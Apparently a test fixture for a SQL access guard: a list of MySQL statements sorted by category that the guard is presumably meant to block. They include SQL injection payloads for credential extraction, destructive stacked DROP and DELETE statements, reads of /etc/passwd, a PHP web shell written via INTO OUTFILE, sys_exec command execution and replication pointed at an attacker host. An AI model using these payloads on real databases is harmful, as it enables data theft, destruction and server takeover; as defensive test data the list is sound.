## tables and columns that are not granted
SELECT * FROM users WHERE id = 1
SELECT password FROM customers WHERE id = 1
SELECT `email` FROM `customers` WHERE `id` = 1
SELECT * FROM `users` LIMIT 1
SELECT * FROM mysql.user LIMIT 5
SELECT host, user, authentication_string FROM mysql.user WHERE user = 'root'
SELECT schema_name FROM information_schema.schemata LIMIT 10
SELECT table_name FROM information_schema.tables WHERE table_schema = 'shop'
SELECT * FROM performance_schema.threads LIMIT 5
SELECT * FROM sys.processlist LIMIT 5
SELECT o.id FROM orders o STRAIGHT_JOIN users u WHERE o.id = 3
SELECT o.id FROM orders o JOIN customers c ON c.email = o.note WHERE o.id = 3
SELECT id FROM orders WHERE id = 3 AND (SELECT ascii(substring(password, 1, 1)) FROM users LIMIT 1) > 64
SELECT id FROM orders WHERE id = 3 PROCEDURE ANALYSE()
TABLE users
TABLE orders LIMIT 100000
VALUES ROW(1, 2)
SELECT id FROM shop.users WHERE id = 3
SELECT id FROM orders WHERE id = 3 UNION SELECT table_name FROM information_schema.tables
## whole tables, always true
SELECT * FROM items
SELECT * FROM items WHERE 1
SELECT * FROM items WHERE 1 = 1
SELECT * FROM items WHERE '1'
SELECT * FROM items WHERE true
SELECT * FROM items WHERE id
SELECT * FROM items WHERE id > -1
SELECT * FROM items WHERE name LIKE '%'
SELECT * FROM items WHERE name REGEXP '.*'
SELECT * FROM items WHERE name RLIKE '.'
SELECT * FROM items WHERE id <=> id
SELECT * FROM items WHERE !0
SELECT * FROM items WHERE NOT 0
SELECT * FROM items LIMIT 0, 1000000
SELECT * FROM items LIMIT 99999
SELECT group_concat(name) FROM items
SELECT json_arrayagg(name) FROM items
SELECT json_objectagg(id, name) FROM items
SELECT id FROM orders WHERE id = 3 OR 1
SELECT id FROM orders WHERE id = 3 || 1 = 1
SELECT id FROM orders WHERE id = 3 OR 1 = 1 LIMIT 5
SELECT id FROM orders WHERE id = 3 OR 'a' LIKE 'a' LIMIT 5
SELECT id FROM orders WHERE note = '' OR '' = '' LIMIT 5
SELECT id FROM orders WHERE id = 3 XOR 1 LIMIT 5
SELECT id FROM orders WHERE id = '3' OR 3 = 3 LIMIT 5
## UNION
SELECT id FROM orders WHERE id = -1 UNION SELECT 1
SELECT id FROM orders WHERE id = -1 UNION ALL SELECT 1, 2, 3
SELECT id FROM orders WHERE id = -1 UNION SELECT @@version
SELECT id FROM orders WHERE id = -1 UNION SELECT password FROM users
SELECT id FROM orders WHERE id = -1 UNION DISTINCT SELECT load_file('/etc/passwd')
SELECT id FROM orders WHERE id = -1 UNION SELECT NULL, NULL
SELECT id FROM orders WHERE id = -1 UNION SELECT concat(user, 0x3a, password) FROM users
## comments
SELECT id FROM orders WHERE id = 3 #
SELECT id FROM orders WHERE id = 3 # AND status = 'open'
SELECT id FROM orders WHERE id = 3 -- -
SELECT id FROM orders WHERE id = 3 --+
SELECT id FROM orders WHERE id = 3 /*!50000UNION SELECT*/ password FROM users
SELECT /*!40001 SQL_NO_CACHE */ id FROM orders WHERE id = 3
SELECT /*!password*/ FROM users
SELECT/**/id/**/FROM/**/orders/**/WHERE/**/id=3
SELECT id FROM orders WHERE id = 3 /*!AND*/ 1 = 1
SELECT id FROM orders WHERE id = 3 UNION/*x*/SELECT/*y*/1
/*!50001 DROP TABLE orders */
SELECT /*+ SET_VAR(max_execution_time=0) */ id FROM orders WHERE id = 3
SELECT id FROM orders WHERE id = 3 /*M! OR 1 = 1 */
SELECT id FROM orders WHERE note = 'admin'# ' AND status = 'open'
SELECT id FROM orders WHERE id = 3 /*
## stacked
SELECT 1; DROP TABLE orders
SELECT id FROM orders WHERE id = 3; DELETE FROM users
SELECT id FROM orders WHERE id = 3; SET @@global.general_log = 1
UPDATE orders SET total = 0 WHERE id = 3; UPDATE orders SET total = 0
SELECT id FROM orders WHERE id = 3; SHUTDOWN
SELECT id FROM orders WHERE id = 3; SELECT sleep(5)
## writes
DELETE FROM orders
DELETE FROM orders WHERE 1
DELETE FROM orders WHERE id >= 0
DELETE FROM orders LIMIT 100
DELETE FROM orders ORDER BY id LIMIT 1000
DELETE o FROM orders o JOIN customers c ON c.id = o.customer_id
UPDATE orders SET status = 'paid'
UPDATE orders SET status = 'paid' WHERE 1 = 1
UPDATE orders SET status = 'paid' LIMIT 10
UPDATE orders SET status = 'paid' WHERE id = 3 OR 1 = 1
UPDATE orders o JOIN users u ON u.id = o.customer_id SET o.note = u.password WHERE o.id = 3
UPDATE users SET admin = 1 WHERE id = 3
REPLACE INTO users (id, name) VALUES (1, 'x')
INSERT INTO users (id) VALUES (1)
INSERT INTO customers (id, password) VALUES (1, 'x')
INSERT INTO customers VALUES (1, 'x', 'y', 'z')
INSERT INTO orders (id, note) SELECT id, password FROM users
INSERT INTO orders (id) VALUES (1) ON DUPLICATE KEY UPDATE note = (SELECT password FROM users LIMIT 1)
INSERT INTO orders SET id = 1, note = (SELECT password FROM users LIMIT 1)
INSERT INTO events SELECT * FROM items
## definitions and sessions
DROP TABLE orders
DROP DATABASE shop
DROP TABLE IF EXISTS orders, customers
TRUNCATE TABLE orders
TRUNCATE orders
ALTER TABLE orders DROP COLUMN total
RENAME TABLE orders TO x
CREATE TABLE x (id INT)
CREATE TABLE x SELECT * FROM users
CREATE TABLE x LIKE users
CREATE USER 'm'@'%' IDENTIFIED BY 'x'
CREATE DEFINER = 'root'@'localhost' PROCEDURE p() SELECT 1
CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM orders
CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'
GRANT ALL PRIVILEGES ON *.* TO 'm'@'%'
REVOKE SELECT ON shop.* FROM 'clerk'
FLUSH PRIVILEGES
SET GLOBAL general_log = 'ON'
SET PASSWORD FOR 'root'@'localhost' = 'x'
SET @a = (SELECT password FROM users LIMIT 1)
SET NAMES gbk
USE mysql
SHOW TABLES
SHOW DATABASES
SHOW GRANTS FOR 'root'@'localhost'
SHOW CREATE TABLE users
SHOW PROCESSLIST
DESCRIBE users
DESC customers
EXPLAIN SELECT * FROM users
EXPLAIN ANALYZE SELECT * FROM users
LOCK TABLES orders WRITE
UNLOCK TABLES
KILL 5
SHUTDOWN
INSTALL PLUGIN x SONAME 'x.so'
START TRANSACTION
COMMIT
ROLLBACK
PREPARE s FROM 'SELECT * FROM users'
EXECUTE s
CALL p()
DO SLEEP(5)
HANDLER users OPEN
HANDLER users READ FIRST
ANALYZE TABLE orders
OPTIMIZE TABLE orders
CHECKSUM TABLE users
XA START 'x'
RESET MASTER
CHANGE MASTER TO MASTER_HOST = 'evil.example'
## files, network, server, waiting
SELECT * FROM items WHERE id = 3 INTO OUTFILE '/tmp/x'
SELECT id FROM orders WHERE id = 3 INTO DUMPFILE '/tmp/x'
SELECT id INTO OUTFILE '/var/www/x.php' FROM orders WHERE id = 3
SELECT '<?php system($_GET[1]); ?>' INTO OUTFILE '/var/www/html/s.php'
SELECT id FROM orders WHERE id = 3 INTO @x
LOAD DATA INFILE '/etc/passwd' INTO TABLE orders
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE orders
LOAD XML INFILE '/tmp/x' INTO TABLE orders
SELECT load_file('/etc/passwd')
SELECT load_file(0x2f6574632f706173737764)
SELECT sleep(5)
SELECT id FROM orders WHERE id = 3 AND sleep(5)
SELECT id FROM orders WHERE id = if(1 = 1, sleep(5), 0)
SELECT benchmark(10000000, md5('x'))
SELECT id FROM orders WHERE id = 3 AND (SELECT 1 FROM (SELECT sleep(5)) x)
SELECT get_lock('x', 10)
SELECT release_all_locks()
SELECT master_pos_wait('x', 1)
SELECT version()
SELECT @@version
SELECT @@datadir
SELECT @@global.secure_file_priv
SELECT user()
SELECT current_user()
SELECT database()
SELECT schema()
SELECT system_user()
SELECT connection_id()
SELECT last_insert_id()
SELECT extractvalue(1, concat(0x7e, (SELECT password FROM users LIMIT 1)))
SELECT updatexml(1, concat(0x7e, version()), 1)
SELECT gtid_subset(version(), 1)
SELECT exp(~(SELECT * FROM (SELECT user()) x))
SELECT sys_exec('id')
SELECT sys_eval('id')
SELECT uuid_short()
SELECT @a := password FROM users
SELECT @a := @a + 1 FROM orders WHERE id = 3
SELECT id FROM orders WHERE note = 0x61646d696e
SELECT id FROM orders WHERE note = x'61646d696e'
SELECT id FROM orders WHERE note = char(97, 100, 109, 105, 110)
SELECT id FROM orders WHERE note = unhex('61646d696e')
SELECT id FROM orders WHERE note = from_base64('YWRtaW4=')
SELECT id FROM orders WHERE note = _utf8'admin'
SELECT aes_decrypt(note, 'k') FROM orders WHERE id = 3
## what cannot be read, or is read differently
SELECT id FROM orders WHERE note = 'x\' OR 1 = 1
SELECT id FROM orders WHERE note = 'a\'' OR 1 = 1 -- '
SELECT id FROM orders WHERE note = 'x
SELECT id FROM orders WHERE note = "x
SELECT id FROM `orders WHERE id = 3
SELECT id FROM orders WHERE id = 3 INTO
1' OR '1'='1' --
admin' --
SELECT id FROM orders WHERE id = 3 AND 1 = 1 UNION
SELECT id FROM orders WHERE note = 'x' AND 'y
## names of a WITH that are those of tables
WITH users AS (SELECT * FROM users WHERE id = 1) SELECT id FROM users WHERE id = 1
SELECT password FROM users WHERE id IN (WITH users AS (SELECT 1 AS id) SELECT id FROM users)
WITH a AS (SELECT id FROM b WHERE id = 1), b AS (SELECT 1 AS id) SELECT id FROM a WHERE id = 1
INSERT INTO events (kind) WITH users AS (SELECT password FROM users WHERE id = 1) SELECT password FROM users WHERE password = 'x'
## a LATERAL that vouches for itself
SELECT x.email FROM orders, LATERAL (SELECT email FROM orders) x WHERE orders.id = 3
## groups without an aggregate are the table
SELECT id, status FROM orders GROUP BY id, status
SELECT id, name, count(*) FROM customers GROUP BY id, name
SELECT max(status) FROM orders GROUP BY id
SELECT id AS x, count(*) FROM orders GROUP BY x
SELECT name, count(*) FROM items GROUP BY name, item_id
SELECT customer_id, status, region, note, count(*) FROM orders GROUP BY customer_id, status, region, note
DELETE FROM items WHERE id * 0 = 0
DELETE FROM items WHERE id % 1 = 0
DELETE FROM items WHERE id + 0 > 0
DELETE FROM items WHERE id - id = 0
DELETE FROM items WHERE 0 < 2 * id
DELETE FROM items WHERE id + 100 > 50
DELETE FROM items WHERE name = 'x' OR id * 0 = 0
SELECT * FROM items WHERE id * 0 = 0
SELECT * FROM items WHERE id % 1 = 0
SELECT * FROM items WHERE coalesce(id, 1) > 0
SELECT * FROM items WHERE id * 0 IN (0)
UPDATE orders SET status = 'x' WHERE (id / id) = 1
SELECT * FROM items WHERE ifnull(id, 1)
DELETE FROM items WHERE ifnull(id, 1)
DELETE FROM items WHERE id | 1
DELETE FROM items WHERE id DIV 1
DELETE FROM items WHERE length(name)
SELECT id, count(*) FROM orders GROUP BY id WITH ROLLUP
SELECT max(name) FROM items GROUP BY uuid()
SELECT id, (SELECT GROUP_CONCAT(name) FROM customers) FROM orders WHERE id = 3
WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT password FROM users) SELECT i FROM n
UPDATE orders o JOIN customers c ON c.id = o.customer_id SET c.email = 'x' WHERE o.id = 3
## a second table beside the first
SELECT o.id, c.name FROM orders o, customers c WHERE o.id = 3
UPDATE orders o, customers c SET o.status = 'x' WHERE c.id = 3
SELECT c.name FROM (orders o JOIN items i ON i.order_id = o.id) JOIN customers c ON 1 = 1 WHERE o.id = 3
SELECT DISTINCT name FROM customers
SELECT name FROM customers GROUP BY country
WITH y AS (SELECT 1 AS password) SELECT password FROM customers WHERE id = 3
SELECT (SELECT password FROM customers LIMIT 1) FROM (SELECT 1 AS password) y
UPDATE orders SET note = (SELECT password FROM items LIMIT 1) WHERE id = 3
SELECT id AS password FROM customers WHERE id < 30 ORDER BY password + 1
UPDATE orders o LEFT JOIN (SELECT 1 AS id) v ON o.id = v.id SET o.note = 'x' WHERE v.id IS NULL
SHOW CREATE
